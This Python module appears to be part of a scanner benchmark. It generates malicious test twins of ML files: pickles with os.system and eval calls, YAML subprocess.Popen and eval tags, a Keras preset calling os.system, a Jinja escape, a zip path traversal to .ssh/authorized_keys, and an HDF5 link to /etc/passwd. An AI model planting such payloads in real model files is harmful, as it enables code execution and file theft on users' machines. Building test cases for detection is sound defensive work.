"""The bad twins of these kinds: one payload in one file."""

from __future__ import annotations

import io
import pickle
import tarfile
import zipfile
from pathlib import Path

from benchmarks.scan.ordinary.payloads import CALLS, COMMAND, Twin, Write, fields, lines, replaced, stream, torch_file
from benchmarks.scan.ordinary.twin_files import external_data, hdf5_external, keras_lambda, keras_module


def plain_pickle(name: str) -> Write:
    """The call, then what the pickle was."""

    def write(place: Path) -> None:
        body = place.read_bytes()
        start = 2 if body[:1] == b"\x80" else 0
        if body[2:3] == b"\x95":
            start += 9
            body = body[:2] + bytes(9) + body[11:]  # the frame's length would be wrong
            body, start = body[:2] + body[11:], 2
        place.write_bytes(body[:start] + CALLS[name] + b"0" + body[start:])

    return write


def nested(place: Path) -> None:
    """A tensor in a plain pickle whose inner torch file carries the payload."""
    import torch

    body = io.BytesIO()
    torch.save(torch.ones(2), body)
    inner = place.with_name("inner.pt")
    inner.write_bytes(body.getvalue())
    torch_file("os-system")(inner)
    data = inner.read_bytes()
    inner.unlink()
    place.write_bytes(
        b"\x80\x04\x8c\x0dtorch.storage\x8c\x10_load_from_bytes\x93B"
        + len(data).to_bytes(4, "little")
        + data
        + b"\x85R."
    )


def in_zip(member: str, body: bytes) -> Write:
    def write(place: Path) -> None:
        with zipfile.ZipFile(place, "a") as archive:
            archive.writestr(member, body)

    return write


def in_tar(member: str, body: bytes, mode: str) -> Write:
    def write(place: Path) -> None:
        with tarfile.open(place, mode) as archive:  # type: ignore[call-overload]
            info = tarfile.TarInfo(member)
            info.size = len(body)
            archive.addfile(info, io.BytesIO(body))

    return write


def object_names(place: Path) -> None:
    """An array of objects whose pickle holds a call."""
    import numpy as np

    class Evil:
        def __reduce__(self) -> tuple[object, tuple[str]]:
            return eval, (f"__import__('os').system({COMMAND!r})",)

    held = np.empty(2, dtype=object)
    held[0], held[1] = "cat", Evil()
    np.save(place, held, allow_pickle=True)


def weights_in_zip(place: Path) -> None:
    """The .pth inside the zip carries the call."""
    with zipfile.ZipFile(place) as archive:
        body = archive.read("craft_mlt_25k.pth")
    inner = place.with_name("inner.pth")
    inner.write_bytes(body)
    torch_file("subprocess")(inner)
    with zipfile.ZipFile(place, "w") as archive:
        archive.writestr("craft_mlt_25k.pth", inner.read_bytes())
    inner.unlink()


def behind_user_block(place: Path) -> None:
    """An HDF5 file behind a user block that holds a Lambda and an external link."""
    import h5py

    with h5py.File(place, "r+") as file:
        file["x2"] = h5py.ExternalLink("../../../../etc/passwd", "/")


def estimator(place: Path) -> None:
    """An estimator of scikit-learn whose state calls a command when it is made."""
    import joblib
    from sklearn.preprocessing import StandardScaler

    class Evil:
        def __reduce__(self) -> tuple[object, tuple[str]]:
            import os

            return os.system, (COMMAND,)

    made = StandardScaler()
    made.mean_ = Evil()
    joblib.dump(made, place)


def dcp_metadata(place: Path) -> None:
    plain_pickle("os-system")(place)


def script(place: Path) -> None:
    import torch

    class Net(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x + torch.from_file("/tmp/hubclean-must-not-be-there", True, 4)

    torch.jit.script(Net()).save(str(place))


def notebook_pickle(place: Path) -> None:
    place.write_bytes(pickle.dumps({"a": 1})[:-1] + b"0" + CALLS["exec"] + b".")


HELD_OUT = (
    Twin("every-checkpoint-and-last", "last-checkpoint/scheduler.pt", "last-scheduler-exec", torch_file("exec")),
    Twin("every-checkpoint-and-last", "checkpoint-500/rng_state.pth", "rng-subprocess", torch_file("subprocess")),
    Twin("deepspeed-zero", "**/mp_rank_00_model_states.pt", "model-states-os-system", torch_file("os-system")),
    Twin("deepspeed-zero", "**/*_optim_states.pt", "optim-states-getattr", torch_file("getattr-chain")),
    Twin("deepspeed-zero", "checkpoint-100/latest", "pickle-named-latest", replaced(stream())),
    Twin("fsdp-distcp", "**/pytorch_model_fsdp_0/.metadata", "metadata-os-system", dcp_metadata),
    Twin("fsdp-distcp", "**/optimizer_0/*.distcp", "distcp-is-a-pickle", replaced(stream("eval"))),
    Twin("accelerate-custom-objects", "**/custom_checkpoint_0.pkl", "custom-object-open", torch_file("open")),
    Twin("accelerate-custom-objects", "**/random_states_1.pkl", "random-states-import", torch_file("import")),
    Twin("schedulers-of-all-sorts", "model_0.pth", "epoch-file-eval", torch_file("eval")),
    Twin("trl-vision-sft", "training_args.bin", "sft-args-network", torch_file("network")),
    Twin("autotrain-2022", "sample_input.pkl", "sample-input-exec", plain_pickle("exec")),
    Twin("autotrain-2022", "sample_input.pkl", "payload-in-nested-tensor", nested),
    Twin("optimizers-of-all-sorts", "checkpoint-200/optimizer.pt", "lbfgs-posix", torch_file("posix-system")),
    Twin("hugging-face-jobs-logs", "**/artifacts/model/MLmodel", "pickle-named-mlmodel", replaced(stream())),
    Twin("hugging-face-jobs-logs", "**/metrics/loss", "pickle-without-ending", replaced(stream("eval"))),
    Twin("hugging-face-jobs-logs", "**/run-abcd1234.wandb", "pickle-named-wandb", replaced(stream())),
    Twin(
        "hugging-face-jobs-logs",
        "lightning_logs/version_0/hparams.yaml",
        "yaml-apply",
        lines("x: !!python/object/new:subprocess.Popen [['id']]\n"),
    ),
    Twin("hugging-face-jobs-logs", "**/host.xplane.pb", "pickle-named-xplane", replaced(stream())),
    Twin(
        "hugging-face-jobs-logs",
        "**/host.trace.json.gz",
        "pickle-in-trace-gz",
        replaced(__import__("gzip").compress(stream(), mtime=0)),
    ),
    Twin("peft-dora", "adapter_model.safetensors", "adapter-is-a-pickle", replaced(stream())),
    Twin(
        "peft-dora",
        "adapter_config.json",
        "adapter-auto-mapping",
        fields("evil.py", auto_mapping={"base_model_class": "Evil", "parent_library": "evil"}),
    ),
    Twin("peft-ia3-and-oft", "style/adapter_model.safetensors", "subfolder-pickle", replaced(stream("exec"))),
    Twin("llama-factory-vlm", "chat_template.jinja", "template-escape", lines("{{ ''.__class__.__mro__ }}")),
    Twin("diffusers-lora", "learned_embeds.bin", "embeds-os-system", torch_file("os-system")),
    Twin("timm-train-output-alone", "last.pth.tar", "last-inst", torch_file("inst")),
    Twin("open-clip-training-run", "checkpoints/epoch_32.pt", "epoch-obj", torch_file("obj")),
    Twin("openai-clip-jit", "ViT-B-32.pt", "jit-maps-a-file", script),
    Twin("detectron2-pkl", "model_final_f10217.pkl", "detectron-os-system", plain_pickle("os-system")),
    Twin("detectron2-pkl", "config.yaml", "detectron-yaml", lines("X: !!python/object/apply:eval ['1']\n")),
    Twin("model-pt-and-yaml", "norm.npz", "pickle-in-npz", in_zip("x.pkl", stream())),
    Twin("monai-bundle", "models/model.ts", "bundle-script", script),
    Twin("quantized-and-sparse-tensors", "model.pt", "odd-tensors-nt", torch_file("nt-system")),
    Twin("lightning-1-checkpoint", "last.ckpt", "legacy-lightning-runpy", torch_file("runpy")),
    Twin("weights-inside-zips", "craft_mlt_25k.zip", "pth-in-a-zip", weights_in_zip),
    Twin("export-archive-beside", "model.pt2", "pickle-in-pt2", in_zip("model/data/weights/evil.pkl", stream())),
    Twin("export-archive-beside", "model.ptl", "lite-interpreter-pickle", torch_file("os-system")),
    Twin("pytorch-model-hub-mixin", "model.safetensors", "mixin-pickle", replaced(stream())),
    Twin("sentence-transformers-new", "2_Dense/pytorch_model.bin", "dense-os-system", torch_file("os-system")),
    Twin("llama-vision-original", "original/consolidated.00.pth", "original-exec", torch_file("exec")),
    Twin("downloaded-and-pushed-again", ".msc", "msc-os-system", replaced(stream())),
    Twin(
        "downloaded-and-pushed-again",
        ".cache/huggingface/download/weights.bin",
        "pickle-in-the-client-cache",
        replaced(stream()),
    ),
    Twin("names-with-spaces-and-signs", "模型*.pth", "unicode-name-system", torch_file("os-system")),
    Twin("editors-and-file-managers", "._config.json", "pickle-named-appledouble", replaced(stream())),
    Twin("editors-and-file-managers", "Thumbs.db", "pickle-named-thumbs", replaced(stream())),
    Twin("documents-and-tables", "results.xlsx", "pickle-in-xlsx", in_zip("xl/data.pkl", stream())),
    Twin("documents-and-tables", "val.tar", "pickle-in-picture-tar", in_tar("val/9.jpg", stream(), "a")),
    Twin("data-set-beside", "dataset/train/state.json", "pickle-named-state", replaced(stream())),
    Twin("data-set-beside", "images.zip", "zip-member-leaves", in_zip("../../.ssh/authorized_keys", b"x")),
    Twin("embeddings-and-indexes", "features.pkl", "features-eval", plain_pickle("eval")),
    Twin("embeddings-and-indexes", "images.faiss", "pickle-named-faiss", replaced(stream())),
    Twin("label-encoders-beside", "class_names.npy", "object-names-eval", object_names),
    Twin("label-encoders-beside", "scaler.joblib", "estimator-with-call", estimator),
    Twin("label-encoders-beside", "label_encoder.pkl", "encoder-os-system", plain_pickle("os-system")),
    Twin("pickled-tables-beside", "train.pkl", "table-os-system", plain_pickle("os-system")),
    Twin("pickled-tables-beside", "features.h5", "external-link-behind-a-block", behind_user_block),
    Twin("pickled-tables-beside", "trainHistoryDict", "history-exec", notebook_pickle),
    Twin("keras-3-all-files", "model.h5", "keras-3-lambda", keras_lambda),
    Twin("keras-3-all-files", "model.keras", "keras-3-module", keras_module),
    Twin("keras-3-all-files", "model.weights.h5", "weights-external-link", hdf5_external),
    Twin(
        "keras-hub-preset",
        "task.json",
        "preset-module-os",
        fields(config={"backbone": {"module": "os", "class_name": "system", "config": {"command": "id"}}}),
    ),
    Twin("transformers-js-int8-beside", "onnx/model_fp16.onnx", "onnx-traversal", external_data),
    Twin("transformers-js-int8-beside", "onnx/model.ort", "pickle-named-ort", replaced(stream())),
    Twin("openvino-by-itself", "openvino_model.bin", "pickle-named-openvino", replaced(stream())),
    Twin("edge-runtimes-beside", "ncnn/model.ncnn.bin", "pickle-named-ncnn", replaced(stream())),
    Twin("edge-runtimes-beside", "yolov4.weights", "pickle-named-darknet", replaced(stream())),
    Twin("jax-orbax-and-big-vision", "checkpoint_10", "pickle-without-ending", replaced(stream())),
    Twin("neuron-and-habana", "model.neuron", "neuron-script", script),
)
